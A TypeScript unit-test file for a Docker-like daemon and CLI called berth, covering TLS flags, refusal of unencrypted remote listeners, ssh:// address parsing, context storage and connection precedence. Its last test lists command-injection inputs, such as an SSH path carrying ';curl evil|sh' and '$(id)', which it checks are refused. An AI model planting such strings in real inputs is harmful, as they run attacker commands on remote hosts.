import { test } from 'node:test';
import * as assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync, readFileSync, existsSync, statSync } from 'node:fs';
import { createHash } from 'node:crypto';
import * as os from 'node:os';
import * as path from 'node:path';
import { parseDaemonArgs } from '../../src/daemon/config';
import { resolveListenerTls } from '../../src/daemon/tls-config';
import { parseDaemonAddress } from '../../src/client/address';
import { sshArgs } from '../../src/client/ssh-conn';
import { ContextStore } from '../../src/client/context-store';
import { currentContextName, resolveConnection } from '../../src/client/connection';
import { parseDockerEndpointFlag } from '../../src/cli/commands/context';

function withTmp<T>(fn: (dir: string) => T): T {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'berth-remote-unit-'));
  try {
    return fn(dir);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

async function daemonArgs(args: string[], json = '{}') {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'berth-remote-unit-'));
  try {
    writeFileSync(path.join(dir, 'daemon.json'), json);
    const c = await parseDaemonArgs([...args, '--config-file', path.join(dir, 'daemon.json')]);
    if (typeof c === 'string') throw new Error(c);
    return c;
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

test('berthd TLS flags: --tlsverify implies TLS; defaults under /etc/berth/tls; daemon.json keys', async () => {
  const v = await daemonArgs(['-H', 'tcp://0.0.0.0:2376', '--tlsverify', '--tlscacert', '/c/ca.pem']);
  assert.deepEqual({ ...v.tls }, { enabled: true, verify: true, explicitlyOff: false, cacert: '/c/ca.pem', cert: '/etc/berth/tls/server-cert.pem', key: '/etc/berth/tls/server-key.pem' });
  const f = await daemonArgs([], JSON.stringify({ hosts: ['tcp://10.0.0.1:2376'], tls: true, tlscert: '/x/cert.pem', tlskey: '/x/key.pem' }));
  assert.equal(f.tls.enabled, true);
  assert.equal(f.tls.verify, false);
  assert.equal(f.tls.cert, '/x/cert.pem');
  await assert.rejects(daemonArgs([], JSON.stringify({ tls: 'yes' })), /tls in the configuration file must be true or false/);
  const env = resolveListenerTls({}, {}, { DOCKER_TLS_VERIFY: '1', DOCKER_CERT_PATH: '/certs' });
  assert.deepEqual([env.verify, env.cacert, env.cert, env.key], [true, '/certs/ca.pem', '/certs/cert.pem', '/certs/key.pem']);
  await assert.rejects(daemonArgs(['--tlsverify'], '{"tlsverify": true}'), /specified both as a flag and in the configuration file: tlsverify/);
});

test('berthd refuses plain TCP on a non-loopback address unless --tls=false; loopback and unix are fine', async () => {
  await assert.rejects(daemonArgs(['-H', 'tcp://0.0.0.0:2375']), /refusing to serve the API without TLS on tcp:\/\/0\.0\.0\.0:2375/);
  await assert.rejects(daemonArgs(['-H', 'tcp://node1.example:2375']), /refusing/);
  await assert.rejects(daemonArgs([], JSON.stringify({ hosts: ['unix:///x.sock', 'tcp://[2001:db8::1]:2375'] })), /refusing/);
  const off = await daemonArgs(['-H', 'tcp://0.0.0.0:2375', '--tls=false']);
  assert.equal(off.tls.explicitlyOff, true);
  const offJson = await daemonArgs(['-H', 'tcp://0.0.0.0:2375'], '{"tls": false}');
  assert.equal(offJson.tls.explicitlyOff, true);
  for (const h of ['tcp://127.0.0.1:2375', 'tcp://localhost:2375', 'tcp://[::1]:2375', 'unix:///run/x.sock']) await daemonArgs(['-H', h]);
});

test('ssh:// addresses parse as the docker CLI reads them, and become ssh … berth system dial-stdio', () => {
  assert.deepEqual(parseDaemonAddress('ssh://admin@node2'), { kind: 'ssh', user: 'admin', host: 'node2', port: undefined, socketPath: undefined, address: 'ssh://admin@node2' });
  const full = parseDaemonAddress('ssh://me@example.com:2200/var/run/berth.sock');
  assert.equal(full.kind, 'ssh');
  if (full.kind !== 'ssh') return;
  assert.equal(full.port, 2200);
  assert.deepEqual(sshArgs(full), ['-o', 'ConnectTimeout=30', '-T', '-l', 'me', '-p', '2200', '--', 'example.com', 'berth', '--host', 'unix:///var/run/berth.sock', 'system', 'dial-stdio']);
  assert.deepEqual(sshArgs({ host: 'h' }).slice(-4), ['h', 'berth', 'system', 'dial-stdio']);
  // one connection per command: the requests share a control socket
  assert.deepEqual(sshArgs({ host: 'h' }, '/tmp/d/%C').slice(3, 9), ['-o', 'ControlMaster=auto', '-o', 'ControlPath=/tmp/d/%C', '-o', 'ControlPersist=2']);
  assert.throws(() => parseDaemonAddress('ssh://'), /invalid SSH URL/);
});

test('context store: docker layout (sha256 of the name), TLS files 0600, currentContext keeps config.json', () =>
  withTmp((dir) => {
    writeFileSync(path.join(dir, 'config.json'), JSON.stringify({ auths: { 'r.example': { auth: 'x' } } }));
    const store = new ContextStore(dir);
    store.write({ Name: 'node1', Metadata: { Description: 'd' }, Endpoints: { docker: { Host: 'tcp://n:2376', SkipTLSVerify: false } } }, { 'ca.pem': Buffer.from('CA') });
    const id = createHash('sha256').update('node1').digest('hex');
    const meta = JSON.parse(readFileSync(path.join(dir, 'contexts', 'meta', id, 'meta.json'), 'utf8'));
    assert.deepEqual(meta, { Name: 'node1', Metadata: { Description: 'd' }, Endpoints: { docker: { Host: 'tcp://n:2376', SkipTLSVerify: false } } });
    const ca = path.join(dir, 'contexts', 'tls', id, 'docker', 'ca.pem');
    assert.equal(statSync(ca).mode & 0o777, 0o600);
    store.setCurrentContext('node1');
    const config = JSON.parse(readFileSync(path.join(dir, 'config.json'), 'utf8'));
    assert.equal(config.currentContext, 'node1');
    assert.ok(config.auths['r.example']);
    assert.throws(() => store.get('nope'), /context "nope": context not found/);
    store.remove('node1');
    assert.equal(existsSync(path.join(dir, 'contexts', 'tls', id)), false);
  }));

test("connection precedence is the docker CLI's: -H, --context, DOCKER_HOST, DOCKER_CONTEXT, currentContext", () =>
  withTmp((dir) => {
    const store = new ContextStore(dir);
    store.write({ Name: 'cur', Metadata: {}, Endpoints: { docker: { Host: 'tcp://cur:2376', SkipTLSVerify: true } } });
    store.write({ Name: 'env', Metadata: {}, Endpoints: { docker: { Host: 'ssh://u@env', SkipTLSVerify: false } } });
    store.setCurrentContext('cur');
    const env = { DOCKER_CONFIG: dir };
    assert.equal(currentContextName({ hosts: [] }, env), 'cur');
    assert.equal(currentContextName({ hosts: [] }, { ...env, DOCKER_CONTEXT: 'env' }), 'env');
    assert.equal(currentContextName({ hosts: [] }, { ...env, DOCKER_CONTEXT: 'env', DOCKER_HOST: 'unix:///x' }), 'default');
    assert.equal(currentContextName({ hosts: [], context: 'env' }, { ...env, DOCKER_HOST: 'unix:///x' }), 'env');
    assert.equal(currentContextName({ hosts: ['unix:///y'] }, { ...env, DOCKER_CONTEXT: 'env' }), 'default');
    assert.throws(() => currentContextName({ hosts: ['unix:///y'], context: 'env' }, env), /either specify --host or --context/);
    const cur = resolveConnection({ hosts: [] }, env);
    assert.equal(cur.address, 'tcp://cur:2376');
    assert.deepEqual(cur.tls, { ca: undefined, cert: undefined, key: undefined, verify: false });
    assert.throws(() => resolveConnection({ hosts: [], context: 'gone' }, env), /unable to resolve docker endpoint: context "gone": context not found/);
    // the default context: TLS from flags and variables, default-path files that are absent left out
    writeFileSync(path.join(dir, 'ca.pem'), 'CA');
    const dflt = resolveConnection({ hosts: ['tcp://h:2376'] }, { ...env, DOCKER_TLS_VERIFY: '1', DOCKER_CERT_PATH: dir });
    assert.deepEqual(dflt, { contextName: 'default', address: 'tcp://h:2376', tls: { ca: Buffer.from('CA'), cert: undefined, key: undefined, verify: true } });
    assert.throws(() => resolveConnection({ hosts: ['tcp://h:2376'], tlsverify: true, tlscert: path.join(dir, 'none.pem') }, env), /could not read TLS certificate/);
    assert.equal(resolveConnection({ hosts: ['tcp://h:2375'] }, env).tls, undefined);
    assert.deepEqual(resolveConnection({ hosts: ['tcp://h:2376'] }, { ...env, DOCKER_TLS: '1', DOCKER_CERT_PATH: dir }).tls, { ca: undefined, cert: undefined, key: undefined, verify: false });
  }));

test('--docker takes docker\'s keys as CSV and refuses others', () => {
  assert.deepEqual(parseDockerEndpointFlag('host=tcp://n:2376,ca=/a,cert=/b,key=/c,skip-tls-verify=true'), { host: 'tcp://n:2376', ca: '/a', cert: '/b', key: '/c', 'skip-tls-verify': 'true' });
  assert.deepEqual(parseDockerEndpointFlag('"host=ssh://u@h",from=x'), { host: 'ssh://u@h', from: 'x' });
  assert.throws(() => parseDockerEndpointFlag('hots=x'), /unrecognized config key: hots/);
});

test('an ssh:// path with shell characters is refused (ssh hands it to the remote shell)', () => {
  assert.equal(parseDaemonAddress('ssh://admin@node2/run/berth/berth.sock').kind, 'ssh');
  for (const bad of ['ssh://admin@node2/tmp/x;curl evil|sh', 'ssh://node2/a$(id)', 'ssh://node2/a b']) {
    assert.throws(() => parseDaemonAddress(bad), /invalid SSH URL/, bad);
  }
});
